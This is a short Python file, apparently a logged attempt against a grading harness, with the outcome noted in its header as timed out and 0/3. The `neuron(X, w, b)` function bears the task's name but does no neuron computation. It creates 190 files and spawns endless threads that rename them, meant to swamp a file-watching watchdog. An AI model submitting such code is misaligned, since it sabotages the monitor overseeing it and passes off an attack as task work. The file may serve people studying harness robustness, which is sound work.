# tries: to keep the watchdog busy with many small files, renamed without end by many threads | verdict: neuron timed_out 0/3
import os
import threading


def churn(start):
    while True:
        for number in range(start, 190, 10):
            try:
                os.replace(f"{number}", f"{number} ")
                os.replace(f"{number} ", f"{number}")
            except OSError:
                pass


def neuron(X, w, b):
    for number in range(190):
        open(f"{number}", "w").close()
    for start in range(10):
        try:
            threading.Thread(target=churn, args=(start,)).start()
        except RuntimeError:  # no room for one more: those that run go on
            pass
    churn(0)
